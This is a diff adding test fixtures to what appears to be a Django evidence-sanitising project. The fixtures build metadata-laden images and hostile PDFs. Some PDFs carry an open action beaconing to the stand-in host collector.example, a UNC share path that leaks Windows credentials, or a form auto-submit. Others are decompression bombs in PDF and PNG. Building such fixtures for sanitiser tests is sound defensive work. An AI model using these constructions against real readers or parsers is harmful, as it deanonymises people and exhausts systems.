@@ -11,7 +11,7 @@ import zlib
 from fractions import Fraction
 
 from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
-from PIL import ExifTags, Image, ImageCms, ImageDraw
+from PIL import ExifTags, Image, ImageCms, ImageDraw, PngImagePlugin
 from PIL.TiffImagePlugin import IFDRational
 from pypdf import PdfWriter
 
@@ -442,3 +442,245 @@ def pdf_with_javascript_in_object_stream() -> bytes:
         + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
     )
     return bytes(out)
+
+
+# --- Every metadata carrier we can make (tests/test_evidence_sanitising.py) -----------------------
+
+AUTHOR = "Aigerim Seitkali"
+PRODUCER = "AcmeScan 4.1 build 7731"
+GPS_TEXT = "43.318200"  # the position as text, the way XMP and PDF properties carry it
+EXFIL_URI = "https://collector.example/pixel?id=reporter-42"
+SHARE_PATH = "\\\\files.collector.example\\share\\bait.pdf"
+SUBMIT_URL = "https://collector.example/submit"
+VISIBLE_TEXT = "WATER SAMPLE 17"
+INVISIBLE_TEXT = "hidden OCR layer names Seitkali"
+# Every string a stranger must not find in a public copy, in any encoding the tests search.
+SECRETS = (AUTHOR, PRODUCER, GPS_TEXT, EXFIL_URI, "collector.example", CAMERA_SERIAL, CAMERA_MAKE, XMP_MARKER)
+
+
+def xmp_packet() -> bytes:
+    """XMP as cameras and PDF writers write it: creator, GPS as text, a marker, a creator tool."""
+    return (
+        '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>'
+        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
+        '<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:exif="http://ns.adobe.com/exif/1.0/"'
+        f' xmlns:xmp="http://ns.adobe.com/xap/1.0/" dc:source="{XMP_MARKER}" exif:GPSLatitude="{GPS_TEXT}"'
+        f' xmp:CreatorTool="{PRODUCER}"><dc:creator><rdf:Seq><rdf:li>{AUTHOR}</rdf:li></rdf:Seq></dc:creator>'
+        '</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
+    ).encode()
+
+
+def phone_exif_with_owner() -> Image.Exif:
+    exif = phone_exif()
+    exif[ExifTags.Base.Artist] = AUTHOR
+    exif.get_ifd(ExifTags.IFD.Exif)[ExifTags.Base.CameraOwnerName] = AUTHOR
+    return exif
+
+
+def _iptc_segment() -> bytes:
+    """A Photoshop APP13 segment with IPTC by-line and city, as news photo tools write."""
+    records = b"".join(
+        b"\x1c\x02" + bytes([dataset]) + struct.pack(">H", len(value)) + value
+        for dataset, value in ((80, AUTHOR.encode()), (90, b"Aksu"))
+    )
+    resource = b"8BIM\x04\x04\x00\x00" + struct.pack(">I", len(records)) + records
+    body = b"Photoshop 3.0\x00" + resource
+    return b"\xff\xed" + struct.pack(">H", len(body) + 2) + body
+
+
+def jpeg_with_every_carrier(width: int = 400, height: int = 300) -> bytes:
+    """EXIF (GPS, serial, owner), XMP, ICC profile, COM comment and an IPTC block."""
+    buffer = io.BytesIO()
+    _picture(width, height).save(
+        buffer, format="JPEG", quality=90, exif=phone_exif_with_owner(), xmp=xmp_packet(),
+        icc_profile=srgb_icc_profile(), comment=COMMENT,
+    )
+    plain = buffer.getvalue()
+    return plain[:2] + _iptc_segment() + plain[2:]
+
+
+def png_with_every_carrier(width: int = 320, height: int = 240) -> bytes:
+    """tEXt (Author, Comment), zTXt, iTXt XMP, eXIf, iCCP, and a tIME chunk written by hand."""
+    info = PngImagePlugin.PngInfo()
+    info.add_text("Author", AUTHOR)
+    info.add_text("Comment", COMMENT.decode())
+    info.add_text("Software", PRODUCER, zip=True)
+    info.add_itxt("XML:com.adobe.xmp", xmp_packet().decode())
+    buffer = io.BytesIO()
+    _picture(width, height).save(buffer, format="PNG", pnginfo=info, exif=phone_exif_with_owner(),
+                                 icc_profile=srgb_icc_profile())
+    data = buffer.getvalue()
+    end = data.rindex(b"IEND") - 4
+    return data[:end] + _png_chunk(b"tIME", struct.pack(">HBBBBB", 2024, 5, 17, 14, 3, 22)) + data[end:]
+
+
+def webp_with_every_carrier(width: int = 320, height: int = 240) -> bytes:
+    """EXIF and XMP chunks and an ICC profile in a WebP container."""
+    buffer = io.BytesIO()
+    _picture(width, height).save(buffer, format="WEBP", quality=80, exif=phone_exif_with_owner().tobytes(),
+                                 xmp=xmp_packet(), icc_profile=srgb_icc_profile())
+    return buffer.getvalue()
+
+
+def heic_with_every_carrier(width: int = 320, height: int = 240) -> bytes:
+    """EXIF and XMP items in a HEIF container (needs pillow-heif)."""
+    import pillow_heif
+
+    pillow_heif.register_heif_opener()
+    buffer = io.BytesIO()
+    _picture(width, height).save(buffer, format="HEIF", exif=phone_exif_with_owner().tobytes(), xmp=xmp_packet())
+    return buffer.getvalue()
+
+
+# --- PDFs that carry more than their pages --------------------------------------------------------
+
+
+def _pdf_string(text: str) -> bytes:
+    return b"(" + text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("latin-1") + b")"
+
+
+def _stream(dictionary: bytes, data: bytes) -> bytes:
+    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"
+
+
+def hostile_pdf(
+    info: bool = True,
+    xmp: bool = True,
+    photo: bool = True,
+    open_action: str | None = "uri",
+    page_action: bool = True,
+    annotations: bool = True,
+    invisible_text: bool = True,
+    pages: int = 1,
+) -> bytes:
+    """A PDF whose pages show a photo and a line of text, and which carries, as asked:
+
+    the document information dictionary (author, producer, GPS in the subject...), an XMP stream
+    with dc:creator, a JPEG with phone EXIF (GPS, serial) drawn on the page, an /OpenAction (a web
+    address that fires on open, or a \\\\host\\share path a Windows reader opens with the user's
+    credentials), a page /AA that submits a form on open, a sticky note signed by the author and a
+    link, and an invisible text layer (render mode 3, as OCR writes) naming the author."""
+    photo_bytes = jpeg_with_every_carrier(300, 200)
+    text = b"BT /F1 28 Tf 60 700 Td (%s) Tj ET" % VISIBLE_TEXT.encode()
+    if invisible_text:
+        text += b" BT 3 Tr /F1 12 Tf 60 660 Td %s Tj ET" % _pdf_string(INVISIBLE_TEXT)
+    content = (b"q 300 0 0 200 60 400 cm /Photo Do Q " if photo else b"") + text
+    objects: dict[str, bytes] = {}
+    numbers: dict[str, int] = {}
+
+    def add(key: str, body: bytes) -> bytes:
+        numbers[key] = len(objects) + 1
+        objects[key] = body
+        return b"%d 0 R" % numbers[key]
+
+    # Fixed numbers first: 1 catalog, 2 pages; the rest follow in the order they are added.
+    add("catalog", b"")
+    add("pages", b"")
+    font = add("font", b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
+    image = add("photo", _stream(
+        b"/Type /XObject /Subtype /Image /Width 300 /Height 200 /ColorSpace /DeviceRGB "
+        b"/BitsPerComponent 8 /Filter /DCTDecode", photo_bytes)) if photo else b""
+    drawn = b" /XObject << /Photo " + image + b" >>" if photo else b""
+    resources = b"<< /Font << /F1 " + font + b" >>" + drawn + b" >>"
+    page_refs = []
+    for _ in range(pages):
+        contents = add(f"content{len(page_refs)}", _stream(b"", content))
+        extra = b""
+        if page_action:
+            extra += b" /AA << /O << /S /SubmitForm /F << /FS /URL /F %s >> /Flags 4 >> >>" % _pdf_string(SUBMIT_URL)
+        if annotations:
+            note = add(f"note{len(page_refs)}", b"<< /Type /Annot /Subtype /Text /Rect [500 780 520 800] "
+                       b"/T %s /Contents %s >>" % (_pdf_string(AUTHOR), _pdf_string(COMMENT.decode())))
+            link = add(f"link{len(page_refs)}", b"<< /Type /Annot /Subtype /Link /Rect [60 690 400 730] "
+                       b"/Border [0 0 0] /A << /S /URI /URI %s >> >>" % _pdf_string(EXFIL_URI))
+            extra += b" /Annots [" + note + b" " + link + b"]"
+        page_refs.append(add(f"page{len(page_refs)}", b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
+                             b"/Resources " + resources + b" /Contents " + contents + extra + b" >>"))
+    catalog_extra = b""
+    if xmp:
+        catalog_extra += b" /Metadata " + add("xmp", _stream(b"/Type /Metadata /Subtype /XML", xmp_packet()))
+    if open_action == "uri":
+        catalog_extra += b" /OpenAction << /S /URI /URI %s >>" % _pdf_string(EXFIL_URI)
+    elif open_action == "share":
+        catalog_extra += b" /OpenAction << /S /GoToR /F %s /D [0 /Fit] >>" % _pdf_string(SHARE_PATH)
+    objects["catalog"] = b"<< /Type /Catalog /Pages 2 0 R" + catalog_extra + b" >>"
+    objects["pages"] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(page_refs), pages)
+    trailer_extra = b""
+    if info:
+        trailer_extra = b" /Info " + add("info", b"<< /Author %s /Title (Letter to the akimat) /Subject %s "
+                                         b"/Producer %s /Creator %s /CreationDate (D:20240517140322+05'00') >>"
+                                         % (_pdf_string(AUTHOR), _pdf_string(GPS_TEXT), _pdf_string(PRODUCER),
+                                            _pdf_string(PRODUCER)))
+    pdf = _assemble_pdf(list(objects.values()))
+    # The trailer comes after every object, so adding to it moves no offset.
+    return pdf.replace(b"/Root 1 0 R >>", b"/Root 1 0 R" + trailer_extra + b" >>")
+
+
+def webp_declaring(width: int, height: int) -> bytes:
+    """A lossless WebP whose header declares width x height (up to WebP's 16383), made from a
+    1x1 picture by rewriting its VP8L header: flat colour at that size would compress to a few KB,
+    so the header is what an attacker controls and all a decoder has to go on."""
+    buffer = io.BytesIO()
+    Image.new("RGB", (1, 1), (40, 120, 200)).save(buffer, format="WEBP", lossless=True)
+    data = bytearray(buffer.getvalue())
+    start = data.index(b"VP8L") + 8
+    assert data[start] == 0x2F  # the VP8L signature byte
+    bits = int.from_bytes(data[start + 1 : start + 5], "little")
+    bits = (bits & ~((1 << 28) - 1)) | (width - 1) | ((height - 1) << 14)
+    data[start + 1 : start + 5] = bits.to_bytes(4, "little")
+    return bytes(data)
+
+
+def pdf_with_image_bomb(side: int = 20_000) -> bytes:
+    """A page drawing a side x side grey image object whose Flate data is a few hundred KB of zeros
+    (20000 x 20000 is 400 MB once inflated)."""
+    compressor = zlib.compressobj(9)
+    data = b"".join(compressor.compress(bytes(side)) for _ in range(side)) + compressor.flush()
+    image = _stream(
+        b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 "
+        b"/Filter /FlateDecode" % (side, side),
+        data,
+    )
+    pdf = handmade_pdf(content=b"q 200 0 0 200 0 0 cm /Im Do Q", objects=(image,))
+    return pdf.replace(b"/Contents 4 0 R", b"/Resources << /XObject << /Im 5 0 R >> >> /Contents 4 0 R")
+
+
+def pdf_with_inline_image_bomb(side: int = 12_000) -> bytes:
+    """The same bomb as an inline image (BI ... ID ... EI) inside the page's content stream: it is
+    no PDF object, so only the renderer's own limits stand in its way."""
+    compressor = zlib.compressobj(9)
+    data = b"".join(compressor.compress(bytes(side)) for _ in range(side)) + compressor.flush()
+    content = b"q 200 0 0 200 0 0 cm BI /W %d /H %d /CS /G /BPC 8 /F /Fl ID " % (side, side) + data + b" EI Q"
+    return handmade_pdf(content=content)
+
+
+def pdf_with_page_size(width: float, height: float) -> bytes:
+    return handmade_pdf().replace(b"[0 0 200 200]", b"[0 0 %.2f %.2f]" % (width, height))
+
+
+def png_with_idat_beyond_its_pixels(side: int = 100, extra: int = 300_000_000) -> bytes:
+    """A side x side RGB PNG whose pixel stream goes on with `extra` zero bytes: 0.3 MB that would
+    inflate to 300 MB if a decoder read past the last row."""
+    compressor = zlib.compressobj(9)
+    data = compressor.compress((b"\x00" + bytes(side * 3)) * side)
+    data += b"".join(compressor.compress(bytes(10_000_000)) for _ in range(extra // 10_000_000))
+    data += compressor.flush()
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
+        + _png_chunk(b"IDAT", data)
+        + _png_chunk(b"IEND", b"")
+    )
+
+
+def png_with_text_bomb(kind: bytes = b"zTXt", inflated: int = 100_000_000, chunks: int = 1) -> bytes:
+    """A small PNG carrying compressed text chunks (zTXt, or compressed iTXt) that inflate to
+    `inflated` bytes each."""
+    packed = zlib.compress(bytes(inflated), 9)
+    if kind == b"zTXt":
+        body = b"Comment\x00\x00" + packed
+    else:
+        body = b"Comment\x00\x01\x00\x00\x00" + packed  # compressed, no language, no translated keyword
+    picture = png_bytes(64, 48)
+    end = picture.rindex(b"IEND") - 4
+    return picture[:end] + _png_chunk(kind, body) * chunks + picture[end:]
